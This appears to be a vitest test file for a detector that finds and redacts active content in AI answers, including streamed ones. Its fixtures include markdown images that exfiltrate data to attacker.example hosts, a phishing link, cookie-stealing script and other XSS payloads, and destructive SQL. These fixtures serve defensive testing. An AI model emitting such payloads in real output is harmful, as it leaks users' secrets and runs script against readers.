import { describe, expect, it } from 'vitest';
import { createStreamScanner } from '../stream.js';
import { createActiveContentStream, detectActiveContent } from './index.js';

const labels = (text: string, allowedHosts: string[] = []) =>
  detectActiveContent(text, { allowedHosts }).labels;
const PAYLOAD = 'c2VjcmV0OiBodW50ZXIyLCB1c2VyOiBhZGE=';
const expectNothingIn = (texts: string[]) => {
  for (const text of texts) expect(labels(text), text).toEqual([]);
};

describe('markdown images and links', () => {
  it('finds an image that sends data to an outside host, in any form', () => {
    expect(labels(`Done! ![status](https://collect.attacker.example/p.png?d=${PAYLOAD})`)).toEqual([
      'active.markdown_image',
    ]);
    // A short value is enough to leak a password; images load without a click.
    expect(labels('![](https://a.example/x.png?k=hunter2)')).toEqual(['active.markdown_image']);
    expect(labels(`![x](//a.example/${PAYLOAD}.png)`)).toEqual(['active.markdown_image']);
    expect(labels('![x](https://a.example/log/%73%65%63%72%65%74)')).toEqual(['active.markdown_image']);
    expect(labels('![a [nested] alt](https://a.example/i.png?q=1)')).toEqual(['active.markdown_image']);
    expect(labels(`![logo][1]\n\n[1]: https://a.example/l.png?u=${PAYLOAD}`)).toEqual([
      'active.markdown_image',
    ]);
  });

  it('leaves ordinary images and links alone', () => {
    expectNothingIn([
      '![diagram](https://upload.wikimedia.org/wikipedia/commons/a/ab/Diagram.png)',
      '![local](/img/chart.png?w=800)',
      'See [the docs](https://nodejs.org/api/stream.html#readable-streams).',
      '[search](https://www.google.com/search?q=python+list+sort)',
      '[page two](https://example.com/forum/thread?page=2&sort=new)',
      '[commit](https://github.com/nodejs/node/commit/3f2a9c1b7e4d5a6b8c9d0e1f2a3b4c5d6e7f8a9b)',
      '[section](https://nodejs.org/api/stream.html#readable-streams)',
      'Arrays are indexed like a[i](x) in some languages.',
    ]);
  });

  it('finds a link whose query carries data, and honours the allow-list with subdomains', () => {
    const link = `[Click to verify](https://verify.attacker.example/?session=${PAYLOAD})`;
    expect(labels(link)).toEqual(['active.markdown_link']);
    expect(labels('[mail](https://a.example/?to=ada%40example.com)')).toEqual(['active.markdown_link']);
    // A short code is enough to tie a phishing page to this conversation.
    expect(labels('[Verify](https://a.example/verify?session=1a2b3c4d)')).toEqual(['active.markdown_link']);
    expect(labels(link, ['attacker.example'])).toEqual([]);
    expect(labels(`![x](https://cdn.acme.example/i.png?sig=${PAYLOAD})`, ['acme.example'])).toEqual([]);
    expect(labels(`![x](https://acme.example.evil.example/i.png?sig=${PAYLOAD})`, ['acme.example'])).toEqual([
      'active.markdown_image',
    ]);
  });

  it('finds script URLs as link targets', () => {
    expect(labels('[click](javascript:alert(document.cookie))')).toEqual(['active.script_url']);
    expect(labels('[x](JaVaScRiPt:alert(1))')).toEqual(['active.script_url']);
    expect(labels('[x](data:text/html;base64,PHNjcmlwdD4=)')).toEqual(['active.script_url']);
    expect(labels('<javascript:alert(1)>')).toEqual(['active.script_url']);
  });
});

describe('HTML', () => {
  it('finds script elements, frames, handlers, script URLs and loading attributes', () => {
    expect(labels('Hi <script>fetch("//x.example?c="+document.cookie)</script> there')).toEqual([
      'active.script',
    ]);
    expect(labels('<iframe src="https://a.example/"></iframe>')).toEqual(['active.embed']);
    expect(labels('<img src=x onerror="alert(1)">')).toEqual(['active.event_handler']);
    expect(labels('<a href="jav&#x61;script:alert(1)">x</a>')).toEqual(['active.script_url']);
    expect(labels(`<img src="https://a.example/p.gif?d=${PAYLOAD}">`)).toEqual(['active.html_image']);
    expect(labels('<b>bold</b> and <a href="https://nodejs.org/">a link</a> and 3 < 4 > 2')).toEqual([]);
  });

  it('spans the whole element, and an unclosed script swallows the rest', () => {
    const text = 'a <script>x()</script> b';
    const [span] = detectActiveContent(text).spans;
    expect(text.slice(span!.start, span!.end)).toBe('<script>x()</script>');
    const open = 'a <script>x() and the rest';
    expect(detectActiveContent(open).spans[0]).toMatchObject({ start: 2, end: open.length });
  });
});

describe('SQL that changes data', () => {
  it('finds statements, upper case or terminated', () => {
    expect(labels('Run DROP TABLE users to reset.')).toEqual(['active.sql_write']);
    expect(labels('delete from accounts where id = 7;')).toEqual(['active.sql_write']);
    expect(labels('UPDATE accounts SET balance = 0 WHERE 1=1')).toEqual(['active.sql_write']);
    expect(labels("INSERT INTO admins (name) VALUES ('eve');")).toEqual(['active.sql_write']);
    expect(labels('ALTER TABLE users ADD COLUMN admin bool')).toEqual(['active.sql_write']);
    expect(labels('TRUNCATE audit_log;')).toEqual(['active.sql_write']);
  });

  it('leaves prose and reads alone', () => {
    expectNothingIn([
      'You can delete from the list any item you no longer need.',
      'Update the table set in the previous step, then insert into the document a heading.',
      'Please drop table tennis from the schedule',
      'SELECT name FROM users WHERE id = 1;',
    ]);
  });
});

describe('code shown as code', () => {
  it('labels findings inside fences and inline code as code', () => {
    const fenced = 'To clean up:\n\n```sql\nDROP TABLE sessions;\n```\n\nand `<script>` tags are stripped.';
    expect(labels(fenced)).toEqual(['active.code.sql_write', 'active.code.script']);
    // An unclosed fence runs to the end, as in CommonMark.
    expect(labels('~~~html\n<iframe src="x"></iframe>')).toEqual(['active.code.embed']);
  });

  it('never treats text outside code as code', () => {
    // Inline code does not cross lines; a fence indented four spaces is not a fence.
    expect(labels('`\n<script>x()</script>\n`')).toEqual(['active.script']);
    expect(labels('    ```\n<script>x()</script>\n    ```')).toEqual(['active.script']);
    expect(labels('```\nok\n```\n<script>x()</script>')).toEqual(['active.script']);
  });
});

describe('linear time', () => {
  // A quadratic scan of any of these takes seconds; linear ones take a few milliseconds (the bound
  // leaves room for a loaded machine).
  it('scans 100 KB adversarial answers quickly', () => {
    const hostile = [
      '](('.repeat(34_000),
      '<a x="'.repeat(17_000),
      '<iframe>'.repeat(12_500),
      '![x]('.repeat(20_000),
      '`'.repeat(100_000),
      '[](https://a.example/?d= "'.repeat(4_000),
      'DELETE FROM t '.repeat(7_500),
      '<a:'.repeat(34_000),
      `${'\n```'.repeat(25_000)}`,
    ];
    for (const text of hostile) {
      const t0 = performance.now();
      detectActiveContent(text);
      expect(performance.now() - t0, text.slice(0, 12)).toBeLessThan(500);
    }
  });
});

describe('streams', () => {
  const stream = (chunks: string[], hold?: number) => {
    const ac = createActiveContentStream();
    const scanner = createStreamScanner({ detectors: [ac.detect], lookBehind: 256, hold });
    let out = '';
    const labelsSeen: string[] = [];
    const released: string[] = [];
    for (const c of [...chunks, null]) {
      if (c !== null) ac.push(c);
      else ac.finish();
      const u = c === null ? scanner.end() : scanner.push(c);
      out += u.redacted;
      released.push(u.released.text);
      labelsSeen.push(...u.spans.map((s) => s.label));
    }
    return { out, labelsSeen, released };
  };
  const chunked = (text: string, size: number) => text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];

  it('catches an image split across chunks, however long its URL', () => {
    const img = `![x](https://a.example/p.png?d=${'Q1w2E3r4'.repeat(60)})`;
    const { out, labelsSeen } = stream(chunked(`Here you go. ${img} Anything else?`, 7));
    expect(labelsSeen).toEqual(['active.markdown_image']);
    expect(out).toBe('Here you go. [REDACTED:active.markdown_image] Anything else?');
  });

  it('without a fixed hold, releases prose at once and holds only what may still grow', () => {
    const prose = ['Sure, ', 'here is ', 'the plan ', 'for today.'];
    expect(stream(prose, 0).released).toEqual([...prose, '']);
    const img = ['See ', '![chart](https://a', '.example/p.png?d=', 'Q1w2E3r4Q1w2E3r4', ') ok'];
    const r = stream(img, 0);
    expect(r.out).toBe('See [REDACTED:active.markdown_image] ok');
    expect(r.released[0]).toBe('See ');
    // A statement begun on a line is held until it ends; a partial keyword until the word is known.
    expect(stream(['Run DR', 'OP TABLE users', '; now.'], 0).out).toBe(
      'Run [REDACTED:active.sql_write] now.',
    );
    expect(stream(['delete from ', 'accounts where id = 7', ';'], 0).out).toBe('[REDACTED:active.sql_write]');
    // Prose that uses the words is held only until its shape shows it is not a statement.
    expect(stream(['Please update your ', 'profile photo and ', 'bio today.'], 0).released).toEqual([
      'Please ',
      'update your profile photo and ',
      'bio today.',
      '',
    ]);
  });

  it('knows a window far into the answer is inside a fence opened before it', () => {
    const text = `\`\`\`html\n${'<p>filler</p>\n'.repeat(100)}<script>x()</script>\n\`\`\`\nafter <script>y()</script>`;
    const { labelsSeen } = stream(chunked(text, 5));
    expect(labelsSeen).toEqual(['active.code.script', 'active.script']);
  });
});
